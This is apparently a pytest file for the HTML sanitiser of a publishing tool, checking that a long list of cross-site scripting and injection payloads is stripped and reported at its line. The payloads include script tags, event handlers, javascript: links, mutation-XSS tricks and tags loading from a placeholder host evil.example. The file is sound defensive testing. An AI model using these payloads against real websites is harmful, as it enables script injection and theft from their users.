"""Nothing in a text runs, calls elsewhere by itself or imitates the page; and every attempt is told at its line."""

from html.parser import HTMLParser

import pytest
from bulletin.render.sanitiser import ATTRIBUTES, CLASSES, TAGS, sanitise

from tests.render.texts import Told, render, told

ON_LINE_3 = {
    "script": "<script>alert(1)</script>",
    "script-in-capitals": "x <SCRIPT SRC=//evil.example></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "onerror-slash": "x <img/src=x/onerror=alert(1)>",
    "onclick": 'x <b onclick="alert(1)">y</b>',
    "ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "onfocus": "x <a tabindex=0 autofocus onfocus=alert(1)>y</a>",
    "javascript": 'x <a href="javascript:alert(1)">y</a>',
    "javascript-entity": 'x <a href="&#106;avascript:alert(1)">y</a>',
    "javascript-tab": 'x <a href="java&#9;script:alert(1)">y</a>',
    "javascript-capitals": 'x <a href=" JAVASCRIPT:alert(1)">y</a>',
    "vbscript": 'x <a href="vbscript:x">y</a>',
    "data-page": 'x <a href="data:text/html,<script>alert(1)</script>">y</a>',
    "data-picture": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "without-scheme": 'x <a href="//evil.example/">y</a>',
    "srcset-without-scheme": '<img srcset="//evil.example/x 2x">',
    "srcset-backslash": '<img srcset="\\\\\\\\evil.example/x 2x">',
    "srcset-from-the-root": '<img srcset="/news/x.webp 480w, //evil.example/x 2x">',
    "srcset": '<img srcset="https://evil.example/x 2x">',
    "svg": "<svg onload=alert(1)></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-use": '<svg><use href="https://evil.example/x.svg#a"/></svg>',
    "math": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "style": "<style>body{background:url(//evil.example)}</style>",
    "style-attribute": 'x <b style="position:fixed;inset:0">y</b>',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": 'x <embed src="https://evil.example/x">',
    "base": '<base href="https://evil.example/">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "form": '<form action="https://evil.example"><input name="q"></form>',
    "button": "x <button formaction=javascript:alert(1)>y</button>",
    "template": "<template><script>alert(1)</script></template>",
    "video": '<video src="https://evil.example/x.mp4" autoplay></video>',
    "audio": '<audio src="https://evil.example/x.mp3" autoplay></audio>',
    "ping": 'x <a href="https://a.example/" ping="https://evil.example">y</a>',
    "target": 'x <a href="https://a.example/" target="opener">y</a>',
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mxss-style-in-math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>",
    "mxss-svg-foreign": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'></svg>",
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "mxss-textarea": '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "mxss-select": "<select><style></select><img src=x onerror=alert(1)></style></select>",
    "stray-end": "x </p> y",
    "misnested": "<p><b>x</p>y</b>",
    "plaintext": "<plaintext>x",
    "custom-element": "<x-app onload=alert(1)>y</x-app>",
    "attr-list-handler": "x *y*{: onclick=alert(1) }",
    "attr-list-style": "x *y*{: style=color:red }",
    "attr-list-id": "x *y*{: #site--main }",
    "attr-list-class": "x *y*{: .masthead }",
    "attr-list-link": "x [y](https://a.example/){: onmouseover=alert(1) }",
    "attr-list-boolean": "x *y*{: autofocus }",
    "attr-list-target": "x [y](https://a.example/){: target=_blank }",
    "id-of-the-page": '<div id="site--main">x</div>',
    "class-of-the-page": '<div class="notice">x</div>',
    "class-among-allowed": '<div class="admonition masthead note">x</div>',
    "cdata": "x <![CDATA[ <script>alert(1)</script> ]]> y",
    "doctype": "<!DOCTYPE html [<!ENTITY x 'y'>]>",
    "processing-instruction": "<?php echo 1 ?>",
    "xml-instruction": "x <?xml-stylesheet href='//evil.example/x.css'?> y",
    "is": "x <b is=x-app>y</b>",
    "slot": "<slot name=x>y</slot>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "input-image": "x <input type=image src=x onerror=alert(1)>",
    "portal": "<portal src=//evil.example></portal>",
    "popover": "x <b popover id=y>z</b>",
    "contenteditable": "<div contenteditable>x</div>",
    "aria": '<div role="banner" aria-label="x">y</div>',
    "microdata": '<div itemscope itemtype="https://evil.example">x</div>',
    "footnote-class": "x [y](javascript:alert(1)){: .footnote-ref }",
    "unclosed-comment": "x <!-- y",
}
"""What an editor, or someone in an editor's name, may try."""
REFUSED_AS_LINKS = ("footnote-class",)
"""Told by the check of links, not by the renderer."""


class _Live(HTMLParser):
    """Lists all that no cleaned text may have."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if name not in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, frozenset()):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src") and ":" in (value or ""):
                scheme = (value or "").split(":")[0]
                self.found += [] if scheme in ("https", "http", "mailto", "tel") else [f"{name}={scheme}:"]
            if name == "srcset":
                self.found += (
                    [f"srcset={value}"] if {":", "//", "\\"} & set(value or "") or "//" in (value or "") else []
                )
            if name == "class":
                self.found += [f".{each}" for each in (value or "").split() if each not in CLASSES]
            if name == "id" and (value or "").startswith("site--"):
                self.found.append(f"#{value}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}")

    def handle_decl(self, decl: str) -> None:
        self.found.append(f"<!{decl}")

    def handle_pi(self, data: str) -> None:
        self.found.append(f"<?{data}")


def live(html: str) -> list[str]:
    parser = _Live()
    parser.feed(html)
    parser.close()
    return parser.found


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in ON_LINE_3.items()])
def test_nothing_live_remains(text: str) -> None:
    assert live(render(f"Đoạn mở đầu.\n\n{text}\n\nĐoạn cuối.").html) == []
    assert live(sanitise(text)) == []


@pytest.mark.parametrize(
    "text",
    [pytest.param(text, id=name) for name, text in ON_LINE_3.items() if name not in REFUSED_AS_LINKS],
)
def test_every_attempt_is_told_at_its_line(text: str) -> None:
    body = render(f"Đoạn mở đầu.\n\n{text}\n\nĐoạn cuối.")
    assert set(told(body)) == {Told(3, "unsafe-html")}
    assert not any(problem.is_warning for problem in body.problems)


def test_a_script_link_dressed_as_a_footnote_is_checked_as_a_link() -> None:
    body = render("x [y](javascript:alert(1)){: .footnote-ref }")
    assert [link.destination.kind.value for link in body.links] == ["forbidden"]
    assert body.html == "<p>x <span>y</span></p>"


def test_the_same_attempt_on_two_lines_is_told_twice() -> None:
    body = render("<b onclick=x>a</b>\n\nMột đoạn.\n\n<b ONCLICK=x>b</b>")
    assert told(body) == [Told(1, "unsafe-html"), Told(5, "unsafe-html")]


def test_a_word_that_names_a_handler_is_a_word() -> None:
    body = render("Thuộc tính onclick không dùng được.\n\n<b onclick=x>a</b>")
    assert told(body) == [Told(3, "unsafe-html")]


def test_a_tag_that_never_ends_is_shown_as_words() -> None:
    body = render("x <script src=//evil.example")
    assert body.html == "<p>x &lt;script src=//evil.example</p>"


@pytest.mark.parametrize(
    "html",
    [
        pytest.param('<p lang="en" id="x" title="y">English <i>words</i></p>', id="language-of-a-part"),
        pytest.param("<details open><summary>Thêm</summary><p>Chi tiết</p></details>", id="details"),
        pytest.param('<table><thead><tr><th scope="col" colspan="2">Năm</th></tr></thead></table>', id="table"),
        pytest.param('<p><time datetime="2026-03-05">5/3</time> H<sub>2</sub>O <kbd>Ctrl</kbd></p>', id="inline"),
        pytest.param('<ol start="3" reversed><li value="4">x</li></ol>', id="list"),
        pytest.param('<div class="numbers no-print"><p>1.250,5</p></div>', id="classes-for-editors"),
    ],
)
def test_harmless_html_stays_and_is_not_told(html: str) -> None:
    body = render(html)
    assert body.html.replace('=""', "") == html
    assert told(body) == []


def test_a_pasted_page_is_told_in_a_hundred_lines_at_most() -> None:
    body = render('<p class="' + " ".join(f"c{n}" for n in range(50_000)) + '">x</p>')
    assert len(body.problems) == 100
    assert live(body.html) == []
